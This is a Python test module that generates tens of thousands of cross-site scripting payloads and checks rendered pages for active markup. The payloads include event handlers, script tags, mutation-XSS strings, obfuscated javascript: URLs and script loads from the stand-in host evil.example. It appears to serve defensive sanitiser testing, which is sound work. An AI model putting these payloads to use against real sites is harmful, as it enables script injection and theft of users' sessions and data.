"""Text that would run something in a reader's browser, made by combining the known ways; and a
reader of pages that tells whether one did.

Every payload calls `xss()`: a browser test defines it and hears of the call.
"""

import html
import json
import re
from itertools import product

from selectolax.lexbor import LexborHTMLParser

HANDLERS = """
<img src=x onerror=xss()>
<IMG SRC=x OnErRoR="xss()">
<img/src/onerror=xss()>
<img src=x onerror=&#120;&#115;&#115;()>
<img src="x` `<script>xss()</script>"` `>
<svg/onload=xss()//
<body onload=xss()>
<details open ontoggle=xss()>
<video><source onerror=xss()></video>
<audio src=x onerror=xss()></audio>
<input autofocus onfocus=xss()>
<select autofocus onfocus=xss()><option>x</select>
<marquee onstart=xss()>x</marquee>
<p onmouseover=xss()>x</p>
<a href=# onclick=xss()>x</a>
<style onload=xss()></style>
<xss id=x tabindex=1 onfocus=xss()>x</xss>
<button popovertarget=x>x</button><i popover id=x onbeforetoggle=xss()>x</i>
<p style="animation-name:x" onanimationstart=xss()>x</p>
<p contenteditable onbeforeinput=xss()>x</p>
"""
SCRIPTS = """
<script>xss()</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/x>xss()</script/x>
<scr<script>ipt>xss()</scr</script>ipt>
<<script>xss()//<</script>
<script>xss()
<script type=module>import "//evil.example/x.js"</script>
<svg><script>xss()</script></svg>
<svg><script href="data:,xss()"></script></svg>
<script>/*<!--*/xss()//--></script>
<b <script>xss()</script>0
<iframe srcdoc="<script>parent.xss()</script>"></iframe>
<object data="data:text/html,<script>parent.xss()</script>"></object>
<meta http-equiv=refresh content="0;url=javascript:xss()">
<link rel=stylesheet href=//evil.example/x.css>
<base href=//evil.example/>
<style>@import '//evil.example/x.css';*{background:url(javascript:xss())}</style>
"""
# What a sanitiser reads as one thing and a browser, reading its answer, as another.
MUTATIONS = """
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss()&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>
<svg></p><style><a id="</style><img src=1 onerror=xss()>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=xss()></style></math>
<svg><style><img src=x onerror=xss()></style></svg>
<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>
<svg><desc><table><thead><s></table></s><style><img src=x onerror=xss()></style></svg>
<noscript><p title="</noscript><img src=x onerror=xss()>"></noscript>
<template><img src=x onerror=xss()></template>
<div><template shadowrootmode=open><img src=x onerror=xss()></template></div>
<xmp><p title="</xmp><img src=x onerror=xss()>"></xmp>
<noembed><p title="</noembed><img src=x onerror=xss()>">
<noframes><p title="</noframes><img src=x onerror=xss()>">
<iframe><p title="</iframe><img src=x onerror=xss()>">
<textarea><p title="</textarea><img src=x onerror=xss()>">
<title><p title="</title><img src=x onerror=xss()>">
<style><p title="</style><img src=x onerror=xss()>">
<!--><img src=x onerror=xss()>-->
<!---><img src=x onerror=xss()>
<!--!><img src=x onerror=xss()>
<![CDATA[<img src=x onerror=xss()>]]>
<svg><![CDATA[><img src=x onerror=xss()>]]></svg>
<?xml-stylesheet href="javascript:xss()"?><img src=x onerror=xss()>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=xss()>">]>&y;
</ <img src=x onerror=xss()>
<select><noscript></select><script>xss()</script>
<table><caption><img src=x onerror=xss()>
<a href="x" title="><script>xss()</script>">x</a>
<img src='<img src=x onerror=xss()//'>
<img src="x
<p title='
<math><mi//xlink:href="data:x,<script>xss()</script>">
<svg><animate onbegin=xss() attributeName=x dur=1s>
<plaintext><img src=x onerror=xss()>
"""
# The elements a text may hold, with more on them than it may hold.
OURS = """
<small class="note"><script>xss()</script>x</small>
<small class='note" onclick="xss()'>x</small>
<figure data-figure="x" onclick=xss()></figure>
<figure data-figure='"><script>xss()</script>'></figure>
<figure data-gallery='x y" onmouseover="xss()'></figure>
<figure data-embed='https://x.example/"onmouseover="xss()'></figure>
<figure data-embed="https://x.example/&quot;><script>xss()</script>"></figure>
<a data-article="1&quot; onclick=&quot;xss()">x</a>
<a href='https://x.example/" onmouseover="xss()'>x</a>
<a href="/x/" ping="//evil.example/" target=_blank title='" onclick="xss()'>x</a>
<span lang='en" onmouseover="xss()'>x</span>
<aside class='fact-box" onclick="xss()'><h3 id=x onclick=xss()>x</h3></aside>
<td colspan='2" onclick="xss()'>x
<ol start='1 onclick=xss()'><li value=1 onclick=xss()>x</ol>
[embed]https://x.example/"onmouseover="xss()[/embed]
[caption id="x" onclick="xss()"]<img src=x onerror=xss()>x[/caption]
"""
# Text that leaves the place a page puts it in: an attribute, a script, a style, JSON, a feed.
ESCAPES = """
"><svg onload=xss()>
'><svg onload=xss()>
" onmouseover="xss()" x="
' autofocus onfocus='xss()
</title><script>xss()</script>
</textarea><script>xss()</script>
</script><script>xss()</script>
</style><script>xss()</script>
--><script>xss()</script>
]]><script>xss()</script>
"};xss();//
\\"};xss();//
`;xss()//${xss()}
{{constructor.constructor('xss()')()}}
{% csrf_token %}{{ request }}%(x)s{0}
<!--<script>xss()
&lt;script&gt;xss()&lt;/script&gt;
&amp;lt;img src=x onerror=xss()&amp;gt;
&#60;script&#62;xss()&#60;/script&#62;
＜script＞xss()＜/script＞
%3Cscript%3Exss()%3C/script%3E
+ADw-script+AD4-xss()+ADw-/script+AD4-
\\u003cscript\\u003exss()
javascript:xss()
[x](javascript:xss()) ![x](x"onerror="xss())
**<b onclick=xss()>x</b>** *<i onclick=xss()>x</i>*
https://x.example/"onmouseover="xss()
https://x.example/<script>xss()</script>
https://x.example/?**x**'onmouseover='xss()
"""
ADDRESSES = [
    "javascript:xss()",
    "JaVaScRiPt:xss()",
    " javascript:xss()",
    "\x01javascript:xss()",
    "java\tscript:xss()",
    "java\nscript:xss()",
    "java\rscript:xss()",
    "java&Tab;script:xss()",
    "java&NewLine;script:xss()",
    "javascript&colon;xss()",
    "&#106;avascript:xss()",
    "&#x6A&#x61vascript:xss()",
    "&#0000106avascript:xss()",
    "java\u00adscript:xss()",
    "java\u200bscript:xss()",
    "java&#8203;script:xss()",
    "java&#x00;script:xss()",
    "&#1;javascript:xss()",
    "javascript://x.example/%0Axss()",
    "javascript&#58;//x.example/&#10;xss()",
    "ｊavascript:xss()",
    "javaſcript:xss()",
    "feed:javascript:xss()",
    "view-source:javascript:xss()",
    "data:text/html,<script>xss()</script>",
    "DATA:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='xss()'/>",
    "vbscript:xss()",
    "VbScRiPt:xss()",
    "blob:https://x.example/1",
    "filesystem:https://x.example/1",
    "//evil.example/",
    "\\\\evil.example\\x",
]
PLACES = [
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    '<a href="{}" data-article="x">x</a>',
    "<a xlink:href='{}'>x</a>",
    "<a href=/x/ ping='{}'>x</a>",
    "<form action='{}'><button>x</button></form>",
    "<form><button formaction='{}'>x</button></form>",
    "<isindex action='{}' type=image>",
    "<iframe src='{}'></iframe>",
    "<object data='{}'></object>",
    "<embed src='{}'>",
    "<base href='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<link rel=stylesheet href='{}'>",
    "<img src='{}'>",
    "<img srcset='{} 2x'>",
    "<picture><source srcset='{}'><img src=/x></picture>",
    "<video poster='{}' src='{}'></video>",
    "<table background='{}'><tr><td background='{}'>x</table>",
    "<blockquote cite='{}'>x</blockquote>",
    "<p style='background:url({})'>x</p>",
    "<style>@import '{}';</style>",
    "<svg><a xlink:href='{}'><text>x</text></a></svg>",
    "<svg><use href='{}'></use></svg>",
    "<svg><a><animate attributeName=href values='{}'></animate><text>x</text></a></svg>",
    "<math href='{}'>x</math>",
    "<map><area href='{}'></map>",
    "<figure data-embed='{}'></figure>",
    "[embed]{}[/embed]",
]
AROUND = [
    "{}",
    "<p>{}</p>",
    '<p title="{}">x</p>',
    "<p class='{}'>x</p>",
    "<!-- {} -->",
    "<table><tr><td>{}",
    "<table>{}<tr><td>x</table>",
    "<ul>{}<li>{}</ul>",
    "<svg>{}</svg>",
    "<svg><title>{}</title></svg>",
    "<math><mtext>{}</mtext></math>",
    "<math><annotation-xml encoding=text/html>{}</annotation-xml></math>",
    "<noscript>{}</noscript>",
    "<style>{}</style>",
    "<template>{}</template>",
    "<textarea>{}</textarea>",
    "<select><option>{}</option></select>",
    "<small class=note>{}</small>",
    "<aside class=fact-box><h3>{}</h3></aside>",
    "<aside class=pull-quote>{}<cite>{}</cite></aside>",
    "<figure data-figure=x><figcaption>{}</figcaption></figure>",
    "<a href=/x/>{}</a>",
    "[embed]{}[/embed]",
    "[caption]{}[/caption]",
    '<p style="mso-list:l0 level1 lfo1"><span style="mso-list:Ignore">{}</span>{}</p>',
    "<div>" * 120 + "{}",
]


def lines_of(text):
    return [line for line in text.splitlines() if line]


TEXTS = [line for part in (HANDLERS, SCRIPTS, MUTATIONS, OURS, ESCAPES) for line in lines_of(part)]
LINKS = [place.replace("{}", address) for place, address in product(PLACES, ADDRESSES)]
DISGUISES = [
    html.escape,
    lambda text: html.escape(html.escape(text)),
    str.upper,
    str.swapcase,
    "\0".join,
    "\u200b".join,
    lambda text: text.replace("s", "s\u00ad").replace("<", "<\u200b"),
    lambda text: text.replace(" ", "\f"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("<", "<\0").replace("o", "o\u0323\u0302"),
    lambda text: text.replace(">", ""),
    lambda text: text * 2,
    lambda text: text[::-1],
]


def everything():
    """The whole matrix, some 40,000 texts."""
    yield from (around.replace("{}", text) for around, text in product(AROUND, [*TEXTS, *LINKS]))
    yield from (disguise(text) for disguise, text in product(DISGUISES, [*TEXTS, *LINKS]))


def something():
    """Every payload, every place and every disguise a few times: what there is time for."""
    yield from TEXTS
    yield from LINKS[::7]
    yield from (around.replace("{}", text) for around, text in product(AROUND, TEXTS[::17]))
    yield from (disguise(text) for disguise, text in product(DISGUISES, TEXTS[::9]))


# Reading pages

ACTIVE_TAGS = {
    "animate", "applet", "area", "base", "embed", "foreignobject", "frame", "frameset", "isindex",
    "map", "marquee", "math", "noembed", "noframes", "object", "plaintext", "set",
    "template", "xmp", "xss",
}  # fmt: skip
ACTIVE_ATTRIBUTES = {"style", "srcdoc", "ping", "background"}
PLAIN_NAME = re.compile(r"[a-z][a-z0-9:_-]*", re.IGNORECASE)
ADDRESS_ATTRIBUTES = {
    "action", "background", "cite", "data", "formaction", "href", "ping", "poster", "src", "srcset",
    "xlink:href",
}  # fmt: skip
LOADING_TAGS = {"audio", "img", "link", "script", "source", "video"}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
PICTURE_DATA = re.compile(r"data:image/(?:webp|png);base64,[A-Za-z0-9+/=]+$")
SCHEME = re.compile(r"[\x00-\x20]*([a-z][a-z0-9+.-]*):", re.IGNORECASE | re.ASCII)


def active_markup(page: str) -> list[str]:
    """What a page (or a part of one) holds that could run, load or lead where it must not, a
    sentence each."""
    found = []
    for node in LexborHTMLParser(page).root.traverse(include_text=False):
        found += [f"{one} in {node.html[:200]}" for one in _problems(node)]
    return found


def _problems(node):
    attributes = {name.lower(): value or "" for name, value in node.attributes.items()}
    if node.tag in ACTIVE_TAGS or (node.tag in JUDGES and not JUDGES[node.tag](node, attributes)):
        yield f"<{node.tag}>"
    for name, value in attributes.items():
        if name.startswith("on") or name in ACTIVE_ATTRIBUTES or not PLAIN_NAME.fullmatch(name):
            yield f"the attribute {name!r}"
        if name in ADDRESS_ATTRIBUTES:
            yield from _bad_address(node.tag, name, value)


def _is_our_script(script, attributes):
    if attributes.get("src", "").startswith(("/static/", "/admin/jsi18n/")):
        return not script.text().strip()
    if attributes.get("type") == "application/ld+json":
        return bool(json.loads(script.text()))
    if attributes.get("type") == "importmap":
        return set(json.loads(script.text())) <= {"imports", "integrity"}
    is_data = attributes.get("type") == "application/json"
    return is_data and json.loads(script.text()) is not None


# Elements a page of ours may have, if they are as ours are.
JUDGES = {
    "iframe": lambda frame, attributes: _is_own(attributes.get("src", "/")),
    "meta": lambda meta, attributes: "http-equiv" not in attributes,
    "script": _is_our_script,
    "style": lambda style, attributes: "nonce" in attributes and not style.text().strip(),
}


def _bad_address(tag, name, value):
    value = re.sub(r"[\t\n\r]", "", value)
    scheme = SCHEME.match(value)
    if tag == "img" and PICTURE_DATA.match(value):
        return
    if scheme and scheme[1].lower() not in SAFE_SCHEMES:
        yield f"the address {value[:60]!r}"
    if tag in LOADING_TAGS and name in ("src", "srcset", "poster") and not _is_own(value):
        yield f"loads {value[:60]!r}"


def _is_own(value):
    return value.startswith("/") and not value.startswith(("//", "/\\"))


def shown_text(page: str) -> str:
    """The words of a page, every run of white space one space."""
    return " ".join(LexborHTMLParser(page).root.text().split())
